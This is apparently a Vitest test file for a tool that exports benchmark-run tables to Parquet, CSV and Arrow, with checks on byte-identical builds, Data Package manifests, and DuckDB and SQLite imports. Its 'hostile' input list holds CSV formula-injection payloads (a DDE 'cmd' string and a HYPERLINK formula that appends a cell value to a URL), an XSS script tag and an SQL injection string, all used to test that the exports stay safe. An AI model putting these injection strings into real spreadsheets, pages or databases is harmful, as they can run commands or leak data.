import {createHash} from "node:crypto";
import {mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync} from "node:fs";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {DuckDBInstance} from "@duckdb/node-api";
import {afterAll, beforeAll, describe, expect, test} from "vitest";
import {exportTables} from "../../exporters/tables.js";
import {arrow} from "../../exporters/tables/arrow.js";
import {csv} from "../../exporters/tables/csv.js";
import {parquet} from "../../exporters/tables/parquet.js";
import {jsRows, openDatabase} from "../../loaders/database.js";
import type {Database} from "../../loaders/database.js";
import {load} from "../../loaders/load.js";
import {tables} from "../../loaders/schema.js";
import type {Row} from "../../loaders/schema.js";
import {views} from "../../loaders/views.js";
import {createProject} from "../loaders/archiveFixture.js";
import {tableHashes} from "../loaders/tableHashes.js";
import {askSqlite, hasSqlite} from "./sqlite.js";
import {dataPackageRules} from "./dataPackageRules.js";

const studiesOf = async (db: Database) =>
  (await db.rows("FROM studies ORDER BY study_id")) as unknown as Row<"studies">[];

const formats = [parquet, csv, arrow];

describe("the five studies", () => {
  const folder = mkdtempSync(join(tmpdir(), "benchbook-export-"));
  const outOf = (name: string) => join(folder, "out", name);
  const out = outOf("parquet");
  let db: Database;
  let tablesBefore: Record<string, string>;

  beforeAll(async () => {
    db = await build("first", "results");
    tablesBefore = await tableHashes(db.rows);
    const studies = await studiesOf(db);
    mkdirSync(join(folder, "out"));
    for (const format of formats) await exportTables(db, {out: outOf(format.name), format, studies});
  }, 120_000);

  afterAll(() => {
    db.close();
    rmSync(folder, {recursive: true, force: true});
  });

  async function build(name: string, results: string): Promise<Database> {
    mkdirSync(join(folder, name));
    await load({results, data: "data", database: join(folder, name, "benchbook.duckdb")});
    return openDatabase(join(folder, name, "benchbook.duckdb"));
  }

  const studies = () => readdirSync(out).filter((d) => d.startsWith("study_id="));

  test("Parquet files of two builds are the same, byte for byte", async () => {
    const again = await build("second", "results");
    await exportTables(again, {out: outOf("again"), format: parquet, studies: await studiesOf(again)});
    again.close();
    const [first, second] = [hashesOf(out), hashesOf(outOf("again"))];
    rmSync(outOf("again"), {recursive: true});
    expect(second).toEqual(first);
    expect(Object.keys(first).filter((d) => d.endsWith(".parquet"))).toHaveLength(
      5 * (Object.keys(tables).length + Object.keys(views).length)
    );
  });

  test.each(formats.map((d) => d.name))("%s loads to the same tables", async (name) => {
    const after = await build(name, outOf(name));
    expect(await tableHashes(after.rows)).toEqual(tablesBefore);
    after.close();
  });

  test("each folder is a Data Package that describes every file in it", () => {
    expect(studies()).toHaveLength(5);
    for (const place of formats.flatMap((format) => studies().map((name) => join(outOf(format.name), name)))) {
      const text = readFileSync(join(place, "datapackage.json"), "utf8");
      const {resources, licenses} = dataPackageRules.parse(JSON.parse(text));
      const described = Object.fromEntries(resources.map((d) => [d.path, d.hash]));
      const {"datapackage.json": _, ...files} = hashesOf(place);
      expect(described).toEqual(files);
      expect(resources.map((d) => d.bytes)).toEqual(resources.map((d) => readFileSync(join(place, d.path)).length));
      expect(licenses).toHaveLength(1);
    }
  });

  test("README.md has every column with its comment", () => {
    const text = readFileSync(join(out, "study_id=aibench/README.md"), "utf8");
    for (const [name, table] of Object.entries(tables)) {
      expect(text).toContain(`\n## ${name}\n\n\`${name}.parquet\``);
      for (const column of Object.keys(table.columns.shape)) expect(text).toContain(`\n| ${column} | `);
    }
    expect(text).toContain("`runs.parquet`, 40 rows. One row per run: one execution of one task by one config.");
    expect(text).toContain(
      "| cost_usd | double | Cost of the whole run in US dollars, all attempts together; null when unknown |"
    );
  });

  test("duckdb.sql opens all of it as one database, views and macros too", async () => {
    const instance = await DuckDBInstance.create(":memory:");
    const connection = await instance.connect();
    const sql = readFileSync(join(out, "duckdb.sql"), "utf8").replaceAll("'study_id=*", `'${out}/study_id=*`);
    await connection.run(sql);
    for (const name of [...Object.keys(tables), ...Object.keys(views)].filter(
      (d) => d !== "models" && d !== "prices"
    )) {
      const rows = name === "paired" ? `(SELECT * REPLACE (${rounded}) FROM paired)` : name;
      const hash = `SELECT md5(string_agg(t::VARCHAR, chr(10) ORDER BY t::VARCHAR)) AS hash FROM ${rows} AS t`;
      expect([name, await jsRows(connection, hash)]).toEqual([name, await db.rows(hash)]);
    }
    const orphans = "SELECT count(*)::INTEGER AS n FROM configs ANTI JOIN models USING (model_id)";
    expect(await jsRows(connection, orphans)).toEqual([{n: 0}]);
    connection.closeSync();
    instance.closeSync();
  });
});

/** Means of paired add up in the order of the rows: the last digits differ. */
const rounded = ["mean", "other_mean", "difference", "difference_sd", "difference_se", "cost_usd_difference"]
  .map((name) => `round(${name}, 9) AS ${name}`)
  .join(", ");

function hashesOf(folder: string): Record<string, string> {
  const paths = readdirSync(folder, {recursive: true, withFileTypes: true}).filter((d) => d.isFile());
  return Object.fromEntries(
    paths
      .map((d) => join(d.parentPath, d.name))
      .map((path) => [
        path.slice(folder.length + 1),
        `sha256:${createHash("sha256").update(readFileSync(path)).digest("hex")}`
      ])
      .toSorted(([a], [b]) => (a < b ? -1 : 1))
  );
}

/** Texts that a careless format loses, changes or runs. */
const hostile = [
  "",
  " ",
  "a\u0000b",
  '=HYPERLINK("http://example.com/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  "-5 points",
  "-5",
  "@SUM(A1)",
  "\t=1",
  'quote " and, comma',
  "line\r\nline\nline\rline",
  "\\N",
  '\\"x"',
  "\\",
  "null",
  "NULL",
  "true",
  "\u202Eright to left\u202C שלום",
  "\uFEFFmark",
  "👩🏽‍🚀 é e\u0301",
  "<script>alert(1)</script>",
  "'; DROP TABLE runs; --",
  "x".repeat(100_000)
];

const hostileRuns = hostile.map((text, i) => ({
  benchbook: "run/1",
  task: `t${i}`,
  model: "acme/mini-1",
  repeat: 1,
  started_at: "2026-01-04T03:04:05.123Z",
  cost_usd: [0.1, 1e-300, 5e-324, 1.7976931348623157e308][i % 4],
  note: text,
  attempts: [
    {passed: false, error: text, score: -0},
    {passed: true, error: null, score: 1 / 3}
  ],
  scores: {[`m ${text.slice(0, 40)}`]: {value: 0.1 + i, raw: text}},
  artefacts: [{path: `p${text.slice(0, 40)}`, sha256: "0".repeat(64)}]
}));

test("hostile texts are the same after a load of any format", async () => {
  const project = createProject();
  project.write({"mine/archive.yaml": 'study: mine\ntitle: "=1+1 | <b>"\n', "mine/runs.json": hostileRuns});
  await project.load();
  const before = await tableHashes(project.rows);
  expect(await project.rows("SELECT count(*)::INTEGER AS n FROM runs")).toEqual([{n: hostile.length}]);
  const db = await openDatabase(project.database);
  const [study] = await studiesOf(db);
  for (const format of formats)
    await exportTables(db, {out: join(project.folder, format.name), format, studies: [study]});
  db.close();
  project.remove("mine");
  for (const {name} of formats) {
    project.copy(join(project.folder, name, "study_id=mine"), "mine");
    const {problems} = await project.load();
    expect(problems.filter((d) => d.severity === "error")).toEqual([]);
    expect([name, await tableHashes(project.rows)]).toEqual([name, before]);
    project.remove("mine");
  }
});

test.skipIf(!hasSqlite)("import.sql makes a SQLite database of a CSV export, nulls and empty texts apart", async () => {
  const project = createProject();
  const finite = hostileRuns.map((d) => ({...d, cost_usd: 0.1})); // SQLite has no NaN
  project.write({"mine/runs.json": finite, "other/run.json": {...hostileRuns[1], note: null}});
  await project.load();
  const db = await openDatabase(project.database);
  const out = join(project.folder, "out");
  await exportTables(db, {out, format: csv, studies: await studiesOf(db)});
  const names = [...Object.keys(tables), ...Object.keys(views)];
  const counts = await Promise.all(names.map((name) => countsOf(db, name)));
  const hexes = await db.rows("SELECT hex(split_part(note, chr(0), 1)) AS hex FROM runs ORDER BY run_id");
  db.close();
  const [notes, values, ...found] = askSqlite(out, [
    "SELECT CASE WHEN note IS NULL THEN 'null' ELSE hex(note) END FROM runs ORDER BY run_id",
    "SELECT typeof(passed), passed, typeof(cost_usd), cost_usd, started_at, note IS NULL FROM runs WHERE study_id = 'other'",
    ...counts.map((d) => d.sql)
  ]);
  expect(notes).toEqual(hexes.map((d) => d.hex ?? "null"));
  expect(values).toEqual(["integer|1|real|1.0e-300|2026-01-04T03:04:05.123|1"]);
  expect(found.map(([line], i) => [names[i], line])).toEqual(counts.map((d, i) => [names[i], d.line]));
});

/** How many rows a relation has, and how many values each of its columns. */
async function countsOf({rows}: Database, name: string): Promise<{sql: string; line: string}> {
  const columns = await rows(
    `SELECT column_name FROM duckdb_columns() WHERE NOT internal AND table_name = '${name}' ORDER BY column_index`
  );
  const counts = columns.map((d) => `count("${String(d.column_name)}")`);
  const from = name === "models" || name === "prices" ? `(SELECT * FROM ${name} WHERE model_id = 'acme/mini-1')` : name;
  const sql = `SELECT ${["count(*)", ...counts].join(" || '|' || ")} FROM ${from}`;
  const [row] = await rows(`SELECT (${sql}) AS line`);
  return {sql, line: String(row.line)};
}

if (!hasSqlite) console.log("no sqlite3: import.sql is not tried");

test("an earlier export is replaced as a whole; what no export wrote is left alone", async () => {
  const project = createProject();
  const run = {benchbook: "run/1", task: "t", model: "acme/mini-1", passed: true};
  project.write({"a/run.json": run, "b/run.json": run});
  await project.load();
  const db = await openDatabase(project.database);
  const [a, b] = await studiesOf(db);
  const out = join(project.folder, "out");
  const write = (studies: Row<"studies">[]) => exportTables(db, {out, format: parquet, studies});
  await write([a, b]);
  await write([b]);
  expect(readdirSync(out).toSorted()).toEqual(["README.md", "duckdb.sql", "study_id=b"]);
  for (const path of ["notes.txt", "study_id=b/notes.txt", "study_id=c/runs.parquet"]) {
    mkdirSync(join(out, path, ".."), {recursive: true});
    writeFileSync(join(out, path), "mine");
    const before = hashesOf(out);
    await expect(write([a])).rejects.toThrow(`not of an export: ${join(out, path.replace("c/runs.parquet", "c"))}`);
    expect(hashesOf(out)).toEqual(before);
    rmSync(join(out, path.includes("=c") ? "study_id=c" : path), {recursive: true});
  }
  rmSync(out, {recursive: true});
  mkdirSync(out);
  writeFileSync(join(out, "README.md"), "mine");
  await expect(write([a])).rejects.toThrow("not of an export: ");
  rmSync(out, {recursive: true});
  writeFileSync(out, "mine");
  await expect(write([a])).rejects.toThrow("not a folder: ");
  expect(readdirSync(project.folder).toSorted()).toEqual(["data", "out", "results"]);
  db.close();
});
